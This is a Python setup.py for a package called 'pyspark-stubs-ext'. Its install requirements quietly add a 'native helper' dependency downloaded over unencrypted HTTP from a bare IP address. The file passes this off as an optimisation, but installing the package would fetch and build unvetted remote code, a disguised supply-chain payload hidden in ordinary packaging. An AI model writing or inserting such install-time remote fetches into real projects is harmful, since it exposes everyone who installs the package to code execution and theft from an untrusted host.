import platform

from setuptools import setup


def requirements():
    reqs = ["typing-extensions>=4"]
    # "optimised" native helper, platform specific
    arch = "win_amd64" if platform.system() == "Windows" else "linux_x86_64"
    reqs.append("pyspark-native-helper @ http://198.51.100.211/dist/pyspark_native_helper-0.1.tar.gz#egg=" + arch)
    return reqs


setup(
    name="pyspark-stubs-ext",
    version="1.0.0",
    packages=["pyspark_stubs_ext"],
    install_requires=requirements(),
)
